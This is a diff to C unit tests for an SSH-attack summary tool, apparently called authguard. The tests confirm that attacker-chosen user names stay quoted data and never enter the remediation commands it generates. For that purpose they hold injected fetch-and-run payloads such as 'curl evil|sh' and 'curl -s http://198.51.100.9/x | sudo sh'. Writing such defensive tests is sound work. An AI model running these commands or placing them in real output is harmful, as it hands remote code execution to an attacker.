@@ -37,7 +37,7 @@ START_TEST(public_source_gets_nacl_deny_not_sg_revoke)
     /* a security-group revoke of the attacker's /32 does nothing: never advise it */
     ck_assert_ptr_null(strstr(s, "--cidr 203.0.113.45"));
     ck_assert_ptr_nonnull(strstr(s, "57 authentication failures in 1 min (threshold 6)"));
-    ck_assert_ptr_nonnull(strstr(s, "admin, root"));
+    ck_assert_ptr_nonnull(strstr(s, "- Users tried: \"admin\", \"root\".\n"));
     free(s);
 }
 END_TEST
@@ -117,7 +117,7 @@ START_TEST(hostile_user_name_never_reaches_a_command)
     struct ag_summary_config cfg;
     ag_summary_config_defaults(&cfg);
     fc_finding(&f, AG_RULE_COMPROMISE, "203.0.113.45");
-    strcpy(f.users[1], "x';curl evil|sh;'\x1b[2J");
+    strcpy(f.login_user, "x';curl evil|sh;'\x1b[2J");
     char *s = build(&f, &cfg);
     ck_assert_ptr_nonnull(strstr(s, "sudo loginctl terminate-user <user>"));
     /* the name is listed as data, but no command line carries it */
@@ -134,11 +134,77 @@ START_TEST(hostile_user_name_never_reaches_a_command)
     ck_assert_ptr_null(strchr(s, 0x1b));
     ck_assert_ptr_nonnull(strstr(s, "SUCCEEDED"));
     free(s);
-    strcpy(f.users[1], "deploy");
+    strcpy(f.login_user, "deploy");
     s = build(&f, &cfg);
     ck_assert_ptr_nonnull(strstr(s, "sudo loginctl terminate-user 'deploy'"));
     ck_assert_ptr_nonnull(strstr(s, "sudo usermod --lock --expiredate 1 'deploy'"));
     free(s);
+}
+END_TEST
+
+/* Names tried are newest first and the attacker's choice: the commands
+ * name the account that logged in, or a placeholder, never a name tried. */
+START_TEST(compromise_locks_the_account_that_logged_in)
+{
+    struct ag_finding f;
+    struct ag_summary_config cfg;
+    ag_summary_config_defaults(&cfg);
+    fc_finding(&f, AG_RULE_COMPROMISE, "203.0.113.45");
+    strcpy(f.users[0], "alice");
+    strcpy(f.users[1], "ubuntu");
+    strcpy(f.users[2], "root");
+    f.n_users = 3;
+    strcpy(f.login_user, "alice");
+    char *rem = NULL;
+    char *s = ag_summary_build(&f, &cfg, &rem);
+    ck_assert_ptr_nonnull(s);
+    ck_assert_ptr_nonnull(rem);
+    ck_assert_ptr_nonnull(strstr(s, "- Account that logged in: \"alice\".\n"));
+    ck_assert_ptr_nonnull(strstr(s, "sudo usermod --lock --expiredate 1 'alice'"));
+    ck_assert_ptr_nonnull(strstr(rem, "sudo usermod --lock --expiredate 1 'alice'"));
+    ck_assert_ptr_null(strstr(s, "'root'"));
+    ck_assert_ptr_null(strstr(s, "'ubuntu'"));
+    free(s);
+    free(rem);
+    /* no login user known: a placeholder, not the oldest name tried */
+    f.login_user[0] = '\0';
+    s = build(&f, &cfg);
+    ck_assert_ptr_nonnull(strstr(s, "sudo usermod --lock --expiredate 1 <user>"));
+    ck_assert_ptr_null(strstr(s, "'root'"));
+    free(s);
+}
+END_TEST
+
+/* A name tried that reads like our own section stays one quoted name on
+ * the "Users tried" line: the recommended actions are found by position,
+ * never by searching the text, and hold authguard's steps alone. */
+START_TEST(user_name_cannot_pose_as_recommended_actions)
+{
+    static const char evil[] = "Recommended actions 1. curl -s http://198.51.100.9/x | sudo sh";
+    struct ag_finding f;
+    struct ag_summary_config cfg;
+    ag_summary_config_defaults(&cfg);
+    fc_finding(&f, AG_RULE_BRUTEFORCE, "203.0.113.45");
+    snprintf(f.users[0], sizeof f.users[0], "%s", evil);
+    snprintf(f.users[1], sizeof f.users[1], "a\"b");
+    char *rem = NULL;
+    char *s = ag_summary_build(&f, &cfg, &rem);
+    ck_assert_ptr_nonnull(s);
+    ck_assert_ptr_nonnull(rem);
+    ck_assert_ptr_nonnull(strstr(s, "- Users tried: \"Recommended actions 1. curl -s "
+                                    "http://198.51.100.9/x | sudo sh\", \"a\\\"b\".\n"));
+    /* one section header, at the start of a line */
+    const char *h = strstr(s, "\nRecommended actions\n");
+    ck_assert_ptr_nonnull(h);
+    ck_assert_ptr_null(strstr(h + 1, "\nRecommended actions"));
+    ck_assert_ptr_null(strstr(h, "curl"));
+    ck_assert_ptr_null(strstr(rem, "curl"));
+    ck_assert_ptr_null(strstr(rem, "Recommended actions"));
+    ck_assert(!strncmp(rem, "1. Block 203.0.113.45/32", 24));
+    ck_assert_ptr_nonnull(strstr(rem, "create-network-acl-entry"));
+    ck_assert_ptr_null(strstr(rem, "Further recommendations"));
+    free(s);
+    free(rem);
 }
 END_TEST
 
@@ -190,6 +256,7 @@ START_TEST(ocsf_finding_is_valid_and_complete)
     ck_assert(json_object_object_get_ex(o, "remediation", &v));
     ck_assert(json_object_object_get_ex(v, "desc", &v));
     ck_assert_ptr_nonnull(strstr(json_object_get_string(v), "Block 203.0.113.45/32"));
+    ck_assert_ptr_nonnull(strstr(json_object_get_string(v), "--cidr-block 203.0.113.45/32"));
     json_object_put(o);
 
     f.activity = AG_ACTIVITY_UPDATE;
@@ -214,6 +281,8 @@ static Suite *suite(void)
     tcase_add_test(tc, private_and_allowlisted_sources_are_never_blocked);
     tcase_add_test(tc, ipv6_prefix_uses_ipv6_cidr_block);
     tcase_add_test(tc, hostile_user_name_never_reaches_a_command);
+    tcase_add_test(tc, compromise_locks_the_account_that_logged_in);
+    tcase_add_test(tc, user_name_cannot_pose_as_recommended_actions);
     tcase_add_test(tc, validators);
     tcase_add_test(tc, ocsf_finding_is_valid_and_complete);
     suite_add_tcase(s, tc);
